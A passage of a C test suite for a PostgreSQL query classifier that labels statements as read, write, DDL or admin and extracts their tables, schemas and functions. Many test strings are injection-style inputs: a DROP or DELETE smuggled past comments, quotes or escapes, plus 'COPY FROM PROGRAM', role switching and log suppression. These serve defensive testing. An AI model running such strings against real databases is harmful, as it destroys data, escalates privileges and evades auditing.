        {"EXPLAIN (ANALYZE, ANALYZE false) DELETE FROM t", READ},
        {"EXPLAIN (ANALYZE false, ANALYZE) DELETE FROM t", WRITE},
        /* values the server rejects count as on */
        {"EXPLAIN (ANALYZE maybe) DELETE FROM t", WRITE},
        {"EXPLAIN (ANALYZE 2) DELETE FROM t", WRITE},
        {"EXPLAIN ANALYZE SELECT * FROM t FOR UPDATE", WRITE},
        {"EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", DDL},
        {"EXPLAIN ANALYZE SELECT * INTO x FROM t", DDL},
        {"EXPLAIN ANALYZE SELECT 1", READ},
        /* functions count either way: the planner may run them */
        {"EXPLAIN SELECT pg_terminate_backend(1)", ADMIN},
        {"EXPLAIN SELECT * FROM t WHERE a = query_to_xml('x', true, true, '')::text", ADMIN},
        {"EXPLAIN DELETE FROM t WHERE a = nextval('s')", WRITE},
        {"EXPLAIN ANALYZE SELECT pg_terminate_backend(1)", ADMIN},
    };
    EXPECT_ALL(*state, cases);
    al_sql_opts_t o = {.default_function_class = AL_SQL_WRITE};
    expect_opts(*state, "EXPLAIN SELECT my_immutable_func(1)", WRITE, &o);
    /* tables are named whether or not it runs */
    const al_sql_result_t *r = run(*state, "EXPLAIN DELETE FROM secrets");
    assert_int_equal(r->stmts[0].n_tables, 1);
    assert_true(al_str_eq_c(r->stmts[0].tables[0].name, "secrets"));
    assert_string_equal(r->stmts[0].kind, "ExplainStmt");
}

typedef struct prepared {
    const char *names[4];
    al_sql_class_t cls[4];
    int calls;
} prepared_t;

static al_sql_class_t resolve_prepared(void *arg, al_str_t name)
{
    prepared_t *p = arg;
    p->calls++;
    for (size_t i = 0; i < 4 && p->names[i]; i++)
        if (al_str_eq_c(name, p->names[i]))
            return p->cls[i];
    return AL_SQL_UNKNOWN;
}

static al_sql_class_t resolve_garbage(void *arg, al_str_t name)
{
    AL_UNUSED(arg);
    AL_UNUSED(name);
    return (al_sql_class_t)77;
}

static void test_prepare_execute(void **state)
{
    al_sql_t *c = *state;
    prepared_t p = {{"r", "w", "Mixed Case", "a"}, {READ, WRITE, DDL, ADMIN}, 0};
    al_sql_opts_t o = {.resolve_prepared = resolve_prepared, .resolve_arg = &p};

    const al_sql_result_t *r = run_opts(c, "PREPARE w AS DELETE FROM t WHERE a = $1", &o);
    assert_int_equal(r->cls, AL_SQL_WRITE);
    assert_true(al_str_eq_c(r->stmts[0].prepare_name, "w"));
    assert_false(r->stmts[0].executes);
    assert_int_equal(p.calls, 0);

    r = run_opts(c, "PREPARE q (int) AS SELECT * FROM t WHERE a = $1", &o);
    assert_int_equal(r->cls, AL_SQL_READ);
    assert_true(al_str_eq_c(r->stmts[0].prepare_name, "q"));

    expect_opts(c, "EXECUTE r", READ, &o);
    expect_opts(c, "EXECUTE w(1)", WRITE, &o);
    expect_opts(c, "EXECUTE \"Mixed Case\"", DDL, &o);
    expect_opts(c, "EXECUTE a", ADMIN, &o);
    expect_opts(c, "EXECUTE Mixed", UNKNOWN, &o); /* folded to "mixed" */
    expect_opts(c, "EXECUTE nosuch", UNKNOWN, &o);
    expect_opts(c, "EXPLAIN ANALYZE EXECUTE w", WRITE, &o);
    /* plain EXPLAIN EXECUTE plans the prepared statement, which may run
     * its functions; only its class as a whole is known */
    expect_opts(c, "EXPLAIN EXECUTE w", WRITE, &o);
    expect_opts(c, "EXPLAIN EXECUTE nosuch", UNKNOWN, &o);
    expect_opts(c, "CREATE TABLE x AS EXECUTE a", ADMIN, &o);
    expect_opts(c, "CREATE TABLE x AS EXECUTE r", DDL, &o);
    expect_opts(c, "SELECT 1; EXECUTE w; SELECT 2", WRITE, &o);
    expect_opts(c, "EXECUTE r; EXECUTE nosuch", UNKNOWN, &o);

    r = run_opts(c, "EXECUTE w(1, 'x')", &o);
    assert_true(r->stmts[0].executes);
    assert_true(al_str_eq_c(r->stmts[0].execute_name, "w"));
    assert_int_equal(r->stmts[0].tree_cls, AL_SQL_READ);
    assert_int_equal(r->stmts[0].cls, AL_SQL_WRITE);
    assert_true(al_str_eq_c(r->stmts[0].reason_arg, "w"));
    assert_string_equal(r->stmts[0].kind, "ExecuteStmt");

    /* without a resolver EXECUTE is unknown; a class out of range too */
    expect(c, "EXECUTE r", UNKNOWN);
    expect_opts(c, "EXECUTE r", UNKNOWN, &(al_sql_opts_t){.resolve_prepared = resolve_garbage});
    r = run(c, "EXECUTE r");
    assert_true(r->stmts[0].executes);
    assert_int_equal(r->stmts[0].tree_cls, AL_SQL_READ);

    /* the resolver never lowers a class the tree already has */
    expect_opts(c, "CREATE TABLE x AS EXECUTE r", DDL, &o);
    /* DEALLOCATE does not execute */
    p.calls = 0;
    expect_opts(c, "DEALLOCATE w", READ, &o);
    assert_int_equal(p.calls, 0);
}

/* ---- SET ---------------------------------------------------------------------- */

static void test_settings(void **state)
{
    static const tcase_t cases[] = {
        {"SET ROLE postgres", ADMIN},
        {"SET LOCAL ROLE postgres", ADMIN},
        {"SET \"role\" = 'postgres'", ADMIN},
        {"SET SESSION AUTHORIZATION postgres", ADMIN},
        {"SET session_replication_role = replica", ADMIN},
        {"SET log_statement = 'none'", ADMIN},
        {"SET LOG_MIN_DURATION_STATEMENT = -1", ADMIN},
        {"RESET log_statement", ADMIN},
        {"SET track_activities = off", ADMIN},
        {"SET zero_damaged_pages = on", ADMIN},
        {"SET work_mem = '1GB'", READ},
        {"SET application_name = 'x'", READ},
        {"SET my.custom = 'x'", READ},
        /* search_path: unqualified names would leave public */
        {"SET search_path = vault", ADMIN},
        {"SET search_path TO public", ADMIN},
        {"SET LOCAL search_path = vault, public", ADMIN},
        {"SET SCHEMA 'vault'", ADMIN},
        {"SET SEARCH_PATH = vault", ADMIN},
        {"SET search_path TO DEFAULT", READ},
        {"RESET search_path", READ},
        {"ALTER ROLE r SET search_path = vault", ADMIN},
        {"ALTER ROLE r IN DATABASE d SET role = 'x'", ADMIN},
        {"ALTER FUNCTION f() SET search_path = vault", DDL},
        {"SELECT set_config('search_path', 'vault', false)", ADMIN},
        /* the lexer must agree with the server's */
        {"SET standard_conforming_strings = off", ADMIN},
        {"SET standard_conforming_strings TO false", ADMIN},
        {"SET standard_conforming_strings = 0", ADMIN},
        {"SET standard_conforming_strings = 'no'", ADMIN},
        {"SET LOCAL standard_conforming_strings = off", ADMIN},
        {"SET standard_conforming_strings = on", READ},
        {"SET standard_conforming_strings = true", READ},
        {"SET standard_conforming_strings = 'YES'", READ},
        {"SET standard_conforming_strings = 1", READ},
        {"SET standard_conforming_strings TO DEFAULT", READ},
        {"RESET standard_conforming_strings", READ},
        {"ALTER ROLE r SET standard_conforming_strings = off", ADMIN},
        {"ALTER FUNCTION f() SET standard_conforming_strings = off", ADMIN},
        {"SET client_encoding = 'SJIS'", ADMIN},
        {"SET client_encoding TO 'BIG5'", ADMIN},
        {"SET client_encoding = 'LATIN1'", ADMIN},
        {"SET NAMES 'GBK'", ADMIN},
        {"SET client_encoding = 6", ADMIN},
        {"SET client_encoding = 'UTF8'", READ},
        {"SET client_encoding = 'utf-8'", READ},
        {"SET client_encoding TO 'Unicode'", READ},
        {"SET NAMES 'UTF8'", READ},
        {"SET client_encoding TO DEFAULT", READ},
        {"RESET client_encoding", READ},
        {"SELECT set_config('client_encoding', 'SJIS', false)", ADMIN},
        /* several statements: a bad SET anywhere raises the string */
        {"SELECT 1; SET standard_conforming_strings = off; SELECT 2", ADMIN},
    };
    EXPECT_ALL(*state, cases);

    /* the public function */
    assert_int_equal(al_sql_setting_class(AL_STR("ROLE"), AL_STR("x"), false), AL_SQL_ADMIN);
    assert_int_equal(al_sql_setting_class(AL_STR("role"), AL_STR(""), true), AL_SQL_ADMIN);
    assert_int_equal(al_sql_setting_class(AL_STR("log_anything"), AL_STR("x"), false), AL_SQL_ADMIN);
    assert_int_equal(al_sql_setting_class(AL_STR("log"), AL_STR("x"), false), AL_SQL_READ);
    assert_int_equal(al_sql_setting_class(AL_STR("search_path"), AL_STR("public"), false), AL_SQL_ADMIN);
    assert_int_equal(al_sql_setting_class(AL_STR("search_path"), AL_STR(""), true), AL_SQL_READ);
    assert_int_equal(al_sql_setting_class(AL_STR("client_encoding"), AL_STR("UTF_8"), false), AL_SQL_READ);
    assert_int_equal(al_sql_setting_class(AL_STR("client_encoding"), AL_STR("utf8utf8utf8utf8utf8"), false),
                     AL_SQL_ADMIN);
    assert_int_equal(al_sql_setting_class(AL_STR("client_encoding"), AL_STR(""), false), AL_SQL_ADMIN);
    assert_int_equal(al_sql_setting_class(AL_STR("client_encoding"), AL_STR(""), true), AL_SQL_READ);
    assert_int_equal(al_sql_setting_class(AL_STR("standard_conforming_strings"), AL_STR("On"), false),
                     AL_SQL_READ);
    assert_int_equal(al_sql_setting_class(AL_STR("standard_conforming_strings"), AL_STR("of"), false),
                     AL_SQL_ADMIN);
    assert_int_equal(al_sql_setting_class(AL_STR("work_mem"), AL_STR("1"), false), AL_SQL_READ);

    /* every entry of the settings table, through the classifier */
    const char *name;
    bool prefix;
    al_sql_class_t cls;
    size_t n = al__sql_table_entry(1, 0, &name, &prefix, &cls);
    assert_true(n > 10);
    for (size_t i = 0; i < n; i++) {
        al__sql_table_entry(1, i, &name, &prefix, &cls);
        char sql[160];
        if (!strcmp(name, "role") || !strcmp(name, "session_authorization"))
            snprintf(sql, sizeof sql, "SET \"%s\" = 'x'", name); /* not keywords when quoted */
        else
            snprintf(sql, sizeof sql, "SET %s%s = 'x'", name, prefix ? "anything" : "");
        expect(*state, sql, cls);
        snprintf(sql, sizeof sql, "RESET \"%s%s\"", name, prefix ? "anything" : "");
        expect(*state, sql, cls);
    }
}

/* ---- lexical tricks: the real parser reads them as the server does ------------ */

static void test_lexical(void **state)
{
    static const tcase_t cases[] = {
        /* comments hide statements */
        {"SELECT 1 /* ; DROP TABLE t; */", READ},
        {"SELECT 1 /* /* nested */ ; DROP TABLE t; */", READ},
        {"SELECT 1 /* /* nested */ */ ; DROP TABLE t", DDL},
        {"SELECT 1 -- ; DROP TABLE t", READ},
        {"SELECT 1 -- comment\n; DROP TABLE t", DDL},
        {"SELECT 1 -- comment\r; DROP TABLE t", DDL},
        {"/* DELETE FROM t; */ SELECT 1", READ},
        {"-- DELETE FROM t;\nSELECT 1", READ},
        {"DELETE/**/FROM/**/t", WRITE},
        {"SELECT/*x*/1;/*y*/DELETE/*z*/FROM t", WRITE},
        {"SELECT 1 --\\\nDELETE FROM t", READ}, /* no line continuation in comments */
        /* quoted identifiers are names, not keywords */
        {"SELECT \"DROP\" FROM t", READ},
        {"SELECT * FROM \"DELETE\"", READ},
        {"SELECT \"pg_terminate_backend\" FROM t", READ},
        {"SELECT * FROM \"t; DROP TABLE x\"", READ},
        {"SELECT \"a\"\"; DROP TABLE x; --\" FROM t", READ},
        {"CREATE TABLE \"SELECT\" (a int)", DDL},
        /* string constants */
        {"SELECT '; DROP TABLE t; --'", READ},
        {"SELECT 'it''s'; DELETE FROM t", WRITE},
        {"SELECT '\\'; DELETE FROM t; --'", WRITE}, /* standard strings: \ is plain */
        {"SELECT E'\\'; DELETE FROM t; --'", READ},  /* E'': \' escapes the quote */
        {"SELECT e'\\''; DELETE FROM t", WRITE},
        {"SELECT E'\\x27; DELETE FROM t; --'", READ},
        {"SELECT E'\\\\'; DELETE FROM t", WRITE},
        {"SELECT 'a'\n'b'; DELETE FROM t", WRITE}, /* continuation across a newline */
        {"SELECT B'0101', X'ff', N'national'", READ},
        /* dollar quoting */
        {"SELECT $$; DROP TABLE t;$$", READ},
        {"SELECT $a$ $$; DROP TABLE t; $a$", READ},
        {"SELECT $_$x$_$; DELETE FROM t", WRITE},
        {"SELECT $a$ $A$; DROP TABLE t; $a$", READ}, /* tags are case-sensitive */
        {"SELECT $a$x$a$ || $b$; DROP TABLE t;$b$", READ},
        {"SELECT $$'$$; DELETE FROM t; --'", WRITE},
        {"SELECT $1; DELETE FROM t", WRITE}, /* a parameter, not a tag */
        /* Unicode escapes */
        {"SELECT U&'\\0044ROP TABLE t'", READ},
        {"SELECT U&'d!0061t!+000061' UESCAPE '!'", READ},
        {"SELECT * FROM U&\"\\0073ecrets\"", READ},
        {"DELETE FROM U&\"\\0074\"", WRITE},
        {"SELECT U&'\\D800'", UNKNOWN}, /* lone surrogate */
        /* case and white space */
        {"dElEtE fRoM t", WRITE},
        {"  \t\n\r\f DELETE\n\tFROM\n t  \n", WRITE},
        {"SeLeCt * FrOm T fOr UpDaTe", WRITE},
        {"cOpY t FrOm PrOgRaM 'id'", ADMIN},
        {"Do $$ BEGIN END $$", ADMIN},
        {"\xc2\xa0SELECT 1", UNKNOWN}, /* NBSP is an identifier byte, not space */
        {"SELECT\v1", UNKNOWN},        /* \v is not white space in PostgreSQL 15 */
        /* odd but valid */
        {"(SELECT 1)", READ},
        {"((SELECT * FROM t FOR UPDATE))", WRITE},
        {"SELECT 1 AS \"\"\"\"", READ},
    };
    EXPECT_ALL(*state, cases);
}

/* Embedded NUL: the server cuts the text there, so the classifier refuses. */
static void test_nul(void **state)
{
    al_sql_t *c = *state;
    static const char sql[] = "SELECT 1\0; DROP TABLE t";
    const al_sql_result_t *r = NULL;
    assert_int_equal(al_sql_classify(c, sql, sizeof sql - 1, NULL, &r), AL_OK);
    assert_int_equal(r->cls, AL_SQL_UNKNOWN);
    assert_int_equal(r->n_stmts, 0);
    assert_non_null(strstr(r->error.p, "NUL"));
    assert_int_equal(al_sql_classify(c, "\0", 1, NULL, &r), AL_OK);
    assert_int_equal(r->cls, AL_SQL_UNKNOWN);
    assert_int_equal(al_sql_classify(c, "SELECT 1\0", 9, NULL, &r), AL_OK);
    assert_int_equal(r->cls, AL_SQL_UNKNOWN);
    /* the length is honoured: text after it is not read */
    assert_int_equal(al_sql_classify(c, "SELECT 1; DROP TABLE t", 8, NULL, &r), AL_OK);
    assert_int_equal(r->cls, AL_SQL_READ);
    assert_int_equal(r->n_stmts, 1);
    assert_int_equal(r->stmts[0].len, 8);
}

static void test_max_text(void **state)
{
    al_sql_config_t cfg = {.max_text = 64};
    al_sql_t *c = al_sql_new(&cfg);
    assert_non_null(c);
    char sql[128];
    memset(sql, ' ', sizeof sql);
    memcpy(sql, "SELECT 1", 8);
    const al_sql_result_t *r = NULL;
    assert_int_equal(al_sql_classify(c, sql, 64, NULL, &r), AL_OK);
    assert_int_equal(r->cls, AL_SQL_READ);
    assert_int_equal(r->n_stmts, 1);
    assert_int_equal(al_sql_classify(c, sql, 65, NULL, &r), AL_OK);
    assert_int_equal(r->cls, AL_SQL_UNKNOWN);
    assert_int_equal(r->n_stmts, 0);
    assert_non_null(strstr(r->error.p, "too long"));
    /* and again, now that it may be cached */
    assert_int_equal(al_sql_classify(c, sql, 65, NULL, &r), AL_OK);
    assert_int_equal(r->cls, AL_SQL_UNKNOWN);
    al_sql_free(&c);
    AL_UNUSED(state);
}

/* Deep nesting is refused, not a crash. */
static void test_deep(void **state)
{
    al_sql_t *c = *state;
    static const struct {
        const char *open, *mid, *close;
        size_t n;
        al_sql_class_t cls;
    } shapes[] = {
        {"(", "1", ")", 100, READ},
        {"(", "1", ")", 20000, UNKNOWN},
        {"ARRAY[", "1", "]", 200, READ},
        {"ARRAY[", "1", "]", 20000, UNKNOWN},
        {"(SELECT ", "1", ")", 5000, UNKNOWN},
        {"(SELECT ", "nextval('s')", ")", 50, WRITE},
        {"NOT ", "true", "", 20000, UNKNOWN},
    };
    for (size_t i = 0; i < AL_ARRAY_LEN(shapes); i++) {
        al_buf_t b;
        al_buf_init(&b);
        assert_int_equal(al_buf_puts(&b, "SELECT "), AL_OK);
        for (size_t k = 0; k < shapes[i].n; k++)
            assert_int_equal(al_buf_puts(&b, shapes[i].open), AL_OK);
        assert_int_equal(al_buf_puts(&b, shapes[i].mid), AL_OK);
        for (size_t k = 0; k < shapes[i].n; k++)
            assert_int_equal(al_buf_puts(&b, shapes[i].close), AL_OK);
        const al_sql_result_t *r = NULL;
        assert_int_equal(al_sql_classify(c, b.p, b.len, NULL, &r), AL_OK);
        if (r->cls != shapes[i].cls)
            fail_msg("%s x%zu: want %s, got %s", shapes[i].open, shapes[i].n,
                     al_sql_class_name(shapes[i].cls), al_sql_class_name(r->cls));
        al_buf_free(&b);
    }
    /* UNION chains nest in the tree */
    al_buf_t b;
    al_buf_init(&b);
    assert_int_equal(al_buf_puts(&b, "SELECT 1"), AL_OK);
    for (int k = 0; k < 3000; k++)
        assert_int_equal(al_buf_puts(&b, " UNION (SELECT 1"), AL_OK);
    for (int k = 0; k < 3000; k++)
        assert_int_equal(al_buf_puts(&b, ")"), AL_OK);
    const al_sql_result_t *r = NULL;
    assert_int_equal(al_sql_classify(c, b.p, b.len, NULL, &r), AL_OK);
    assert_int_equal(r->cls, AL_SQL_UNKNOWN);
    assert_int_equal(r->n_stmts, 0);
    al_buf_free(&b);
}

/* ---- extraction ------------------------------------------------------------------ */

/* "cat.sch.name" / "sch.name" / "name" of table i, for comparisons. */
static void table_str(const al_sql_table_t *t, char *out, size_t cap)
{
    snprintf(out, cap, "%.*s%s%.*s%s%.*s", (int)t->catalog.len, t->catalog.p, t->catalog.len ? "." : "",
             (int)t->schema.len, t->schema.p, t->schema.len ? "." : "", (int)t->name.len, t->name.p);
}

/* want: the statement's tables, sorted as the result sorts them
 * (catalog, schema, name, bytewise), separated by '|'. */
static void expect_tables(al_sql_t *c, const char *sql, const char *want)
{
    const al_sql_result_t *r = run(c, sql);
    check_invariants(sql, r);
    char got[1024] = "";
    size_t o = 0;
    for (size_t i = 0; i < r->n_stmts; i++) {
        for (size_t k = 0; k < r->stmts[i].n_tables; k++) {
            char one[256];
            table_str(&r->stmts[i].tables[k], one, sizeof one);
            o += (size_t)snprintf(got + o, sizeof got - o, "%s%s", o ? "|" : "", one);
            /* each string is NUL-terminated */
            const al_sql_table_t *t = &r->stmts[i].tables[k];
            assert_int_equal(t->name.p[t->name.len], '\0');
            assert_int_equal(t->schema.p[t->schema.len], '\0');
        }
    }
    if (strcmp(got, want) != 0)
        fail_msg("%s: want tables [%s], got [%s]", sql, want, got);
}

static void test_tables(void **state)
{
    al_sql_t *c = *state;
    expect_tables(c, "SELECT 1", "");
    expect_tables(c, "SELECT * FROM t", "t");
    expect_tables(c, "SELECT * FROM T", "t");
    expect_tables(c, "SELECT * FROM \"Secrets\"", "Secrets");
    expect_tables(c, "SELECT * FROM \"secrets\"", "secrets");
    expect_tables(c, "SELECT * FROM \"My Table\"", "My Table");
    expect_tables(c, "SELECT * FROM \"a\"\"b\"", "a\"b");
    expect_tables(c, "SELECT * FROM \"a\\b\"", "a\\b");
    expect_tables(c, "SELECT * FROM \"tâble\"", "tâble");
    expect_tables(c, "SELECT * FROM U&\"\\0073ecrets\"", "secrets");
    expect_tables(c, "SELECT * FROM U&\"a\\0009b\"", "a\tb");
    expect_tables(c, "SELECT * FROM U&\"\\+01F600\"", "\xf0\x9f\x98\x80");
    expect_tables(c, "SELECT * FROM vault.secrets", "vault.secrets");
    expect_tables(c, "SELECT * FROM VAULT.\"Secrets\"", "vault.Secrets");
    expect_tables(c, "SELECT * FROM db.vault.secrets", "db.vault.secrets");
    expect_tables(c, "SELECT * FROM public.t, t", "t|public.t");
    expect_tables(c, "SELECT * FROM b, a, b, a", "a|b");
    expect_tables(c, "SELECT * FROM a JOIN b ON true LEFT JOIN c USING (id)", "a|b|c");
    expect_tables(c, "SELECT * FROM a WHERE x IN (SELECT x FROM b) AND EXISTS (SELECT 1 FROM c)",
                  "a|b|c");
    expect_tables(c, "SELECT (SELECT max(x) FROM s.b) FROM (SELECT * FROM a) sub", "a|s.b");
    expect_tables(c, "SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.x = a.x) l", "a|b");
    expect_tables(c, "SELECT * FROM a UNION SELECT * FROM b", "a|b");
    expect_tables(c, "INSERT INTO a SELECT * FROM b", "a|b");
    expect_tables(c, "UPDATE a SET x = b.x FROM b WHERE a.id = b.id", "a|b");
    expect_tables(c, "DELETE FROM a USING b WHERE a.id = b.id", "a|b");
    expect_tables(c, "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE", "a|b");
    expect_tables(c, "COPY a TO STDOUT", "a");
    expect_tables(c, "COPY (SELECT * FROM a) TO STDOUT", "a");
    expect_tables(c, "TRUNCATE a, s.b", "a|s.b");
    expect_tables(c, "LOCK TABLE a, b", "a|b");
    expect_tables(c, "TABLE a", "a");
    expect_tables(c, "CREATE TABLE a (x int)", "a");
    expect_tables(c, "CREATE TABLE a (LIKE secrets)", "a|secrets");
    expect_tables(c, "CREATE TABLE a AS SELECT * FROM b", "a|b");
    expect_tables(c, "CREATE VIEW v AS SELECT * FROM secrets", "secrets|v");
    expect_tables(c, "SELECT * INTO a FROM b", "a|b");
    expect_tables(c, "DROP TABLE a, s.b", "a|s.b");
    expect_tables(c, "DROP VIEW IF EXISTS v", "v");
    expect_tables(c, "DROP INDEX s.i", "s.i");
    expect_tables(c, "ALTER TABLE a RENAME TO b", "a");
    expect_tables(c, "GRANT SELECT ON a, s.b TO r", "a|s.b");
    expect_tables(c, "EXPLAIN SELECT * FROM a", "a");
    expect_tables(c, "SELECT * FROM a; SELECT * FROM b", "a|b");
    /* CREATE SCHEMA elements are created in that schema */
    expect_tables(c, "CREATE SCHEMA s CREATE TABLE x (a int) CREATE VIEW v AS SELECT * FROM t",
                  "t|s.v|s.x");
    expect_tables(c, "CREATE SCHEMA AUTHORIZATION joe CREATE TABLE x (a int)", "joe.x");
    /* per statement, then in statement order in the result */
    const al_sql_result_t *r = run(c, "SELECT * FROM b, a; DELETE FROM c");
    assert_int_equal(r->n_tables, 3);
    assert_true(al_str_eq_c(r->tables[0].name, "a"));
    assert_true(al_str_eq_c(r->tables[1].name, "b"));
    assert_true(al_str_eq_c(r->tables[2].name, "c"));
    assert_ptr_equal(r->stmts[1].tables, &r->tables[2]);
    /* unqualified means empty, not "public" */
    r = run(c, "SELECT * FROM t");
    assert_int_equal(r->stmts[0].tables[0].schema.len, 0);
    assert_int_equal(r->stmts[0].tables[0].catalog.len, 0);
}

/* CTE names are not tables where they are in scope. */
static void test_cte_scope(void **state)
{
    al_sql_t *c = *state;
    expect_tables(c, "WITH t AS (SELECT 1) SELECT * FROM t", "");
    expect_tables(c, "WITH x AS (SELECT * FROM secrets) SELECT * FROM x", "secrets");
    /* a non-recursive CTE's body sees the real table of the same name */
    expect_tables(c, "WITH t AS (SELECT * FROM t) SELECT * FROM t", "t");
    /* ... and only the CTEs before it */
    expect_tables(c, "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b", "b");
    expect_tables(c, "WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", "");
    /* a recursive WITH sees all its names everywhere */
    expect_tables(c, "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r", "");
    expect_tables(c,
                  "WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "");
    /* schema-qualified is always a table */
    expect_tables(c, "WITH t AS (SELECT 1) SELECT * FROM public.t", "public.t");
    /* DML targets are never CTEs */
    expect_tables(c, "WITH t AS (SELECT 1) DELETE FROM t", "t");
    expect_tables(c, "WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM t", "t");
    expect_tables(c, "WITH t AS (SELECT 1) UPDATE x SET a = 1 FROM t", "x");
    expect_tables(c, "WITH t AS (SELECT 1) MERGE INTO x USING t ON true WHEN MATCHED THEN DELETE",
                  "x");
    /* scope ends with its query */
    expect_tables(c, "SELECT * FROM (WITH t AS (SELECT 1) SELECT * FROM t) s, t", "t");
    expect_tables(c, "(WITH t AS (SELECT 1) SELECT * FROM t) UNION SELECT * FROM t", "t");
    expect_tables(c, "WITH t AS (SELECT 1) SELECT * FROM t UNION SELECT * FROM t", "");
    expect_tables(c, "WITH t AS (SELECT 1) SELECT * FROM a JOIN t ON true", "a");
    expect_tables(c, "WITH t AS (SELECT 1) SELECT * FROM a WHERE x IN (SELECT * FROM t)", "a");
    /* across statements nothing carries over */
    expect_tables(c, "WITH t AS (SELECT 1) SELECT * FROM t; SELECT * FROM t", "t");
    /* quoting matters: "T" is not t */
    expect_tables(c, "WITH t AS (SELECT 1) SELECT * FROM \"T\"", "T");
    /* the data-modifying CTE's target is a table */
    expect_tables(c, "WITH d AS (DELETE FROM secrets RETURNING *) SELECT * FROM d", "secrets");
}

static void test_functions(void **state)
{
    al_sql_t *c = *state;
    const al_sql_result_t *r =
        run(c, "SELECT s.f(1), g(), s.f(2), pg_catalog.nextval('q'), Upper(\"Mixed\"()) FROM t");
    const al_sql_stmt_t *s = &r->stmts[0];
    assert_int_equal(s->n_funcs, 5);
    /* sorted by (schema, name) */
    static const char *const want[][2] = {
        {"", "Mixed"}, {"", "g"}, {"", "upper"}, {"pg_catalog", "nextval"}, {"s", "f"}};
    for (size_t i = 0; i < 5; i++) {
        if (!al_str_eq_c(s->funcs[i].schema, want[i][0]) || !al_str_eq_c(s->funcs[i].name, want[i][1]))
            fail_msg("func %zu: want %s.%s, got %.*s.%.*s", i, want[i][0], want[i][1],
                     (int)s->funcs[i].schema.len, s->funcs[i].schema.p, (int)s->funcs[i].name.len,
                     s->funcs[i].name.p);
        assert_int_equal(s->funcs[i].name.p[s->funcs[i].name.len], '\0');
    }
    assert_true(s->funcs[3].listed);
    assert_int_equal(s->funcs[3].cls, AL_SQL_WRITE);
    assert_false(s->funcs[4].listed);
    assert_int_equal(s->cls, AL_SQL_WRITE);

    /* SQL-syntax calls carry no schema */
    r = run(c, "SELECT extract(year FROM now()), trim(x) FROM t");
    s = &r->stmts[0];
    for (size_t i = 0; i < s->n_funcs; i++)
        assert_int_equal(s->funcs[i].schema.len, 0);
    assert_int_equal(s->n_schemas, 0);

    /* CALL's procedure is a function call */
    r = run(c, "CALL s.proc(1)");
    assert_int_equal(r->stmts[0].n_funcs, 1);
    assert_true(al_str_eq_c(r->stmts[0].funcs[0].name, "proc"));
    assert_true(al_str_eq_c(r->stmts[0].funcs[0].schema, "s"));
    assert_int_equal(r->cls, AL_SQL_ADMIN);
}

static void expect_schemas(al_sql_t *c, const char *sql, const char *want)
{
    const al_sql_result_t *r = run(c, sql);
    char got[512] = "";
    size_t o = 0;
    for (size_t i = 0; i < r->n_stmts; i++)
        for (size_t k = 0; k < r->stmts[i].n_schemas; k++)
            o += (size_t)snprintf(got + o, sizeof got - o, "%s%.*s", o ? "|" : "",
                                  (int)r->stmts[i].schemas[k].len, r->stmts[i].schemas[k].p);
    if (strcmp(got, want) != 0)
        fail_msg("%s: want schemas [%s], got [%s]", sql, want, got);
}

static void test_schemas(void **state)
{
    al_sql_t *c = *state;
    expect_schemas(c, "SELECT * FROM t", "");
    expect_schemas(c, "SELECT * FROM staging.t JOIN staging.u ON true", "staging");
    expect_schemas(c, "SELECT * FROM b.t, a.u, \"B\".v", "B|a|b");
    expect_schemas(c, "SELECT s.f() FROM t", "s");
    expect_schemas(c, "SELECT * FROM db.vault.secrets", "vault");
    expect_schemas(c, "CREATE SCHEMA s", "s");
    expect_schemas(c, "CREATE SCHEMA AUTHORIZATION joe", "joe");
    expect_schemas(c, "DROP SCHEMA a, b CASCADE", "a|b");
    expect_schemas(c, "ALTER SCHEMA a RENAME TO b", "a|b");
    expect_schemas(c, "GRANT USAGE ON SCHEMA s TO r", "s");
    expect_schemas(c, "GRANT SELECT ON ALL TABLES IN SCHEMA s TO r", "s");
    expect_schemas(c, "SELECT extract(year FROM now())", "");
}

/* ---- the documentation matches the code ------------------------------------------ */

static char *read_doc(size_t *len)
{
    char *doc = NULL;
    if (al_read_file(AL_SQL_DOC, 1u << 20, &doc, len) != AL_OK)
        fail_msg("cannot read %s", AL_SQL_DOC);
    return doc;
}

/* The rows "| `name` | class | why |" of the table under `heading` (up to
 * the next "## " heading) must be exactly the entries of table `which`, with
 * the same classes; a prefix entry is written `name*`. Each why is filled. */
static void check_doc_table(const char *doc, const char *heading, int which)
{
    char h[128];
    snprintf(h, sizeof h, "\n## %s\n", heading);
    const char *sec = strstr(doc, h);
    if (!sec)
        fail_msg("%s: no section \"## %s\"", AL_SQL_DOC, heading);
    sec += strlen(h);
    const char *end = strstr(sec, "\n## ");
    if (!end)
        end = sec + strlen(sec);
    const char *name;
    bool prefix;
    al_sql_class_t cls;
    size_t n = al__sql_table_entry(which, 0, &name, &prefix, &cls);
    bool *seen = calloc(n, sizeof *seen);
    assert_non_null(seen);
    size_t rows = 0;
    for (const char *line = sec; line < end;) {
        const char *eol = memchr(line, '\n', (size_t)(end - line));
        if (!eol)
            eol = end;
        if (eol - line > 4 && line[0] == '|' && line[1] == ' ' && line[2] == '`') {
            const char *nb = line + 3, *ne = memchr(nb, '`', (size_t)(eol - nb));
            assert_non_null(ne);
            bool star = ne > nb && ne[-1] == '*';
            size_t nlen = (size_t)(ne - nb) - star;
            char cell[32];
            const char *cb = ne + 1;
            if (sscanf(cb, " | %31[a-z] |", cell) != 1)
                fail_msg("%s: row for %.*s has no class", AL_SQL_DOC, (int)nlen, nb);
            const char *why = strstr(cb, cell) + strlen(cell);
            why = strchr(why, '|');
            assert_non_null(why);
            assert_true(why < eol);
            size_t wlen = (size_t)(eol - why);
            assert_true(wlen > 4); /* "| x |" at least */
            bool found = false;
            for (size_t i = 0; i < n; i++) {
                al__sql_table_entry(which, i, &name, &prefix, &cls);
                if (strlen(name) == nlen && memcmp(name, nb, nlen) == 0 && prefix == star) {
                    if (strcmp(cell, al_sql_class_name(cls)) != 0)
                        fail_msg("%s: %s is %s in the doc, %s in the code", AL_SQL_DOC, name, cell,
                                 al_sql_class_name(cls));
                    if (seen[i])
                        fail_msg("%s: %s listed twice", AL_SQL_DOC, name);
                    seen[i] = found = true;
